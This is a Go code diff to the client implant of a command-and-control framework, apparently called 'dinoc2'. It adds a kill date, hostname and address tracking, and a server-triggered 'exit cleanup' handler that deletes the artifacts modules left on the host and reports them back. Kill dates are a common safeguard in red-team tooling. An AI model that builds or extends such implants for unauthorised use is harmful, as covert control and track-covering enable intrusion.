@@ -14,6 +14,7 @@ import (
 	"dinoc2/pkg/module/loader"
 	"dinoc2/pkg/module/manager"
 	"dinoc2/pkg/protocol"
+	"dinoc2/pkg/task"
 )
 
 // ProtocolType represents the type of protocol used for communication
@@ -51,8 +52,12 @@ type ClientConfig struct {
 	EnableAntiDebug   bool
 	EnableAntiSandbox bool
 	EnableMemProtect  bool
+	KillDate          time.Time // Client stops for good after this time, zero for no kill date
 }
 
+// ErrKillDatePassed is returned when starting a client after its kill date
+var ErrKillDatePassed = errors.New("kill date has passed")
+
 // DefaultConfig returns a default client configuration
 func DefaultConfig() *ClientConfig {
 	return &ClientConfig{
@@ -89,6 +94,8 @@ type Client struct {
 	moduleManager   *manager.ModuleManager
 	loadedModules   map[string]module.Module
 	moduleMutex     sync.RWMutex
+	remoteAddress   string // Address the server saw the client connect from
+	hostname        string // Hostname reported by the client
 }
 
 // NewClient creates a new C2 client with the specified configuration
@@ -152,6 +159,11 @@ func NewClient(config *ClientConfig) (*Client, error) {
 
 // Start initiates the client connection and processing loops
 func (c *Client) Start() error {
+	// Never run past the kill date
+	if c.killDatePassed() {
+		return ErrKillDatePassed
+	}
+
 	c.stateMutex.Lock()
 	if c.isActive {
 		c.stateMutex.Unlock()
@@ -175,6 +187,11 @@ func (c *Client) Start() error {
 	go c.heartbeatLoop()
 	go c.processMessages()
 
+	// Stop the client when the kill date passes
+	if !c.config.KillDate.IsZero() {
+		go c.killDateLoop()
+	}
+
 	return nil
 }
 
@@ -213,6 +230,41 @@ func (c *Client) Stop() error {
 	return nil
 }
 
+// Done returns a channel that is closed when the client stops, including at its kill date
+func (c *Client) Done() <-chan struct{} {
+	return c.ctx.Done()
+}
+
+// killDatePassed reports whether the client's kill date has passed
+func (c *Client) killDatePassed() bool {
+	return !c.config.KillDate.IsZero() && !time.Now().Before(c.config.KillDate)
+}
+
+// killDateLoop stops the client once its kill date passes
+func (c *Client) killDateLoop() {
+	ticker := time.NewTicker(time.Minute)
+	defer ticker.Stop()
+
+	timer := time.NewTimer(time.Until(c.config.KillDate))
+	defer timer.Stop()
+
+	for {
+		select {
+		case <-c.ctx.Done():
+			return
+		case <-timer.C:
+		case <-ticker.C:
+			// Also check periodically in case the system clock jumps forward
+		}
+
+		if c.killDatePassed() {
+			fmt.Println("Kill date reached, stopping client")
+			c.Stop()
+			return
+		}
+	}
+}
+
 // GetState returns the current connection state
 func (c *Client) GetState() ConnectionState {
 	c.stateMutex.RLock()
@@ -244,6 +296,34 @@ func (c *Client) GetEncryptionAlgorithm() string {
 	return c.config.EncryptionAlg
 }
 
+// SetRemoteAddress records the address the client connected from
+func (c *Client) SetRemoteAddress(address string) {
+	c.stateMutex.Lock()
+	defer c.stateMutex.Unlock()
+	c.remoteAddress = address
+}
+
+// GetRemoteAddress returns the address the client connected from
+func (c *Client) GetRemoteAddress() string {
+	c.stateMutex.RLock()
+	defer c.stateMutex.RUnlock()
+	return c.remoteAddress
+}
+
+// SetHostname records the hostname reported by the client
+func (c *Client) SetHostname(hostname string) {
+	c.stateMutex.Lock()
+	defer c.stateMutex.Unlock()
+	c.hostname = hostname
+}
+
+// GetHostname returns the hostname reported by the client
+func (c *Client) GetHostname() string {
+	c.stateMutex.RLock()
+	defer c.stateMutex.RUnlock()
+	return c.hostname
+}
+
 // SwitchProtocol switches the client to a different protocol
 func (c *Client) SwitchProtocol(protocol string) error {
 	return c.HandleProtocolSwitchCommand(protocol)
@@ -490,6 +570,10 @@ func (c *Client) handlePacket(packet *protocol.Packet) {
 		// Server requested protocol switch
 		c.processProtocolSwitch(packet)
 
+	case protocol.PacketTypeExitCleanup:
+		// Server requested that the client clean up and exit
+		c.processExitCleanup(packet)
+
 	case protocol.PacketTypeKeyExchange:
 		// Key exchange request
 		c.processKeyExchange(packet)
@@ -605,6 +689,41 @@ func (c *Client) processProtocolSwitch(packet *protocol.Packet) {
 	}
 }
 
+// processExitCleanup removes the artifacts of the loaded modules, such as the
+// files written through the file module, reports what was removed and stops
+// the client
+func (c *Client) processExitCleanup(packet *protocol.Packet) {
+	fmt.Println("Received exit and cleanup request")
+
+	result := task.CleanupResult{Artifacts: []module.Artifact{}}
+	c.moduleMutex.RLock()
+	for _, mod := range c.loadedModules {
+		if cleaner, ok := mod.(module.Cleaner); ok {
+			result.Artifacts = append(result.Artifacts, cleaner.Cleanup()...)
+		}
+	}
+	c.moduleMutex.RUnlock()
+
+	data, err := json.Marshal(result)
+	if err != nil {
+		fmt.Printf("Failed to marshal cleanup result: %v\n", err)
+	} else {
+		response := protocol.NewPacket(protocol.PacketTypeResponse, data)
+		response.SetTaskID(packet.Header.TaskID)
+
+		c.connMutex.Lock()
+		if c.conn != nil {
+			if err := c.conn.SendPacket(response); err != nil {
+				fmt.Printf("Failed to send cleanup result: %v\n", err)
+			}
+		}
+		c.connMutex.Unlock()
+	}
+
+	fmt.Println("Cleanup complete, stopping client")
+	c.Stop()
+}
+
 // processKeyExchange processes a key exchange packet from the server
 func (c *Client) processKeyExchange(packet *protocol.Packet) {
 	// TODO: Implement key exchange processing